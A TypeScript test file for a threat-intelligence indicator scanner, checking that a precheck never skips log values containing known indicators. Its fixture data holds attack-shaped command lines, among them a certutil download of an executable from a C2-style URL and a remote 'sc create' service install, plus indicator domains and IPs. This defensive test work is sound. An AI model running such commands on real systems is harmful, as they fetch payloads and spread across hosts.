import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Indicator } from '../../src/intel/index.js';
import { IndicatorIndex } from '../../src/ioc/indicator-index.js';
import { IndicatorScanner } from '../../src/ioc/indicator-scanner.js';
import { ValuePrecheck } from '../../src/ioc/value-precheck.js';
import { fieldKind, K_AV, K_CMD, K_PATH, K_SCM_PARAM, K_SERVICE } from '../../src/ioc/field-kinds.js';
import { seededRandom } from '../../scripts/seeded-random.js';

const ind = (type: Indicator['type'], value: string): Indicator => ({ type, value, source: 's', tags: [] });

/** One indicator of every kind, as real intel writes them. */
const EVERY_KIND: Indicator[] = [
  ind('domain', 'asyspy256.ddns.net'), ind('ipv4', '45.251.241.82'), ind('cidr', '103.179.188.0/24'),
  ind('ipv6', '2a03:b0c0:3:d0::1a51:c001'), ind('sha256', '9ae7c4a4e1cfe9b505c3a47e66551eb1357affee65bfefb0109d02f4e97c06dd'),
  ind('sha1', '53a44c2396d15c3a03723fa5e5db54cafd527635'), ind('md5', '0c7f4a32d8e1b5f6a9c3e2d1b0a4f5e6'),
  ind('filename', 'errorEE.aspx'), ind('url', 'http://t1.hinitial.com/api/ping.php'),
  ind('registry', 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\Iph1psvc'), ind('service_name', 'IP He1per'),
  ind('av_signature', 'Trojan:Win32/QuarkBandit.A!dha'),
];

/** Real-shaped values holding those indicators in the places attacks put them, with the field each sits in. */
const CARRIERS: [string, string][] = [
  ['QueryName', 'ASYSPY256.ddns.net'],
  ['CommandLine', 'cmd /c ping -n 1 x.asyspy256.ddns.net. & certutil -urlcache -f http://T1.hinitial.com/api/ping.php?x=1 c:\\windows\\temp\\p.exe'],
  ['DestinationIp', '45.251.241.82'],
  ['QueryResults', 'type:  5 edge.trafficmanager.net;::ffff:103.179.188.20;'],
  ['c-ip', '2A03:B0C0:3:D0::1A51:C001'],
  ['Hashes', 'SHA1=53A44C2396D15C3A03723FA5E5DB54CAFD527635,MD5=0C7F4A32D8E1B5F6A9C3E2D1B0A4F5E6,SHA256=9AE7C4A4E1CFE9B505C3A47E66551EB1357AFFEE65BFEFB0109D02F4E97C06DD'],
  ['TargetFilename', 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorEE.aspx'],
  ['cs-uri-stem', '/aspnet_client/system_web/errorEE.aspx'],
  ['TargetObject', 'HKEY_LOCAL_MACHINE\\System\\ControlSet001\\Services\\Iph1psvc\\Parameters\\ServiceDll'],
  ['ServiceName', 'IP He1per'],
  ['Threat Name', 'Trojan:Win32/QuarkBandit.A!dha'],
  ['Details', 'beacon to asyspy256.ddns.net-'],
  ['CommandLine', 'cmd /c SC.exe \\\\DC01 Create "IP He1per" binPath= C:\\Windows\\Temp\\svc.exe'],
];

/** Benign real-shaped values: most of them need no scan at all. */
const BENIGN: [string, string][] = [
  ['Channel', 'Microsoft-Windows-Sysmon/Operational'],
  ['Provider_Name', 'Microsoft-Windows-Security-Auditing'],
  ['Computer', 'FS01.corp.telco.example'],
  ['Image', 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'],
  ['User', 'NT AUTHORITY\\SYSTEM'],
  ['SubjectUserSid', 'S-1-5-21-3623811015-3361044348-30300820-1013'],
  ['Description', 'Application Server Command Line Admin Tool'],
  ['CommandLine', 'cmd /c sc query type= service | findstr /i wscsvc'],
  ['FileVersion', '7.5.7600.16385 (win7_rtm.090713-1255)'],
  ['ParentCommandLine', 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll"'],
];

const kindOf = fieldKind;

function scanFinds(scanner: IndicatorScanner, value: string, kind: number): number {
  scanner.scan(value, kind);
  return scanner.found.length;
}

test('every value holding an indicator passes the precheck, in the fields that carry each kind', () => {
  const ix = new IndicatorIndex(EVERY_KIND);
  const precheck = new ValuePrecheck(ix);
  const scanner = new IndicatorScanner(ix);
  for (const [field, value] of CARRIERS) {
    const kind = kindOf(field);
    assert.ok(scanFinds(scanner, value, kind) > 0, `${field} holds an indicator`);
    assert.ok(precheck.mayHold(value, kind), `${field}: ${value}`);
  }
});

test('values that cannot hold an indicator kind the index has are passed over', () => {
  // The built-in pack's kinds: domains, hashes, IPv4, service and antivirus names.
  const ix = new IndicatorIndex(EVERY_KIND.filter((i) => ['domain', 'ipv4', 'sha256', 'sha1', 'service_name', 'av_signature'].includes(i.type)));
  const precheck = new ValuePrecheck(ix);
  for (const [field, value] of BENIGN) assert.equal(precheck.mayHold(value, kindOf(field)), false, `${field}: ${value}`);
  // The same text with a label or run the index knows passes.
  assert.ok(precheck.mayHold('FS01.corp.telco.NET', 0), 'a known top-level label, any case');
  assert.ok(precheck.mayHold('\\\\10.2.3.4\\c$', 0), 'a dotted number');
  assert.ok(precheck.mayHold(`MD5=${'A'.repeat(31)}0,SHA1=`, 0), 'a 32-digit hex run');
  assert.ok(precheck.mayHold('HKLM\\SYSTEM\\CurrentControlSet\\SERVICES\\x', 0), 'a service key');
  assert.ok(precheck.mayHold('x', K_SERVICE), 'a service-name field');
  assert.ok(precheck.mayHold('x', K_AV), 'an antivirus-name field');
  assert.ok(precheck.mayHold('sc create x', K_CMD), 'an sc command line');
  assert.equal(precheck.mayHold('whoami /all', K_CMD), false);
  // Kinds the index lacks open nothing.
  assert.equal(precheck.mayHold('C:\\t\\nbtscan.exe', K_PATH), false, 'no file-name indicators');
  assert.equal(precheck.mayHold('fe80::1:2', 0), false, 'no IPv6 indicators');
});

/** Random mutations of real-shaped values: case, separators around, truncation and joins. */
function mutations(seed: number, count: number): string[] {
  const r = seededRandom(seed);
  const pieces = [...CARRIERS, ...BENIGN].map(([, v]) => v);
  const seps = [' ', '.', '-', '_', ':', '/', '\\', '"', '=', ',', ';', '', '..', '-.', ':443/'];
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    let v = pieces[Math.floor(r() * pieces.length)]!;
    const a = Math.floor(r() * v.length);
    const b = a + Math.floor(r() * (v.length - a + 1));
    if (r() < 0.5) v = v.slice(a, b);
    if (r() < 0.5) v = seps[Math.floor(r() * seps.length)]! + v + seps[Math.floor(r() * seps.length)]!;
    if (r() < 0.3) v = v.toUpperCase();
    if (r() < 0.3) v = v + seps[Math.floor(r() * seps.length)]! + pieces[Math.floor(r() * pieces.length)]!;
    out.push(v);
  }
  return out;
}

test('the precheck never passes over a value a scan finds something in (mutated real-shaped values, every kind)', () => {
  const ix = new IndicatorIndex(EVERY_KIND);
  const precheck = new ValuePrecheck(ix);
  const scanner = new IndicatorScanner(ix);
  const kinds = [0, K_PATH, K_SERVICE, K_AV, K_SCM_PARAM, K_CMD, K_PATH | K_CMD];
  let found = 0;
  let skipped = 0;
  for (const v of mutations(16, 6000)) {
    for (const kind of kinds) {
      const hits = scanFinds(scanner, v, kind);
      const may = precheck.mayHold(v, kind);
      if (hits > 0) {
        found++;
        assert.ok(may, `passed over ${JSON.stringify(v)} (kind ${kind})`);
      } else if (!may) skipped++;
    }
  }
  assert.ok(found > 1000, `the mutations keep indicators (${found})`);
  assert.ok(skipped > 1000, `and the precheck passes over many values (${skipped})`);
});
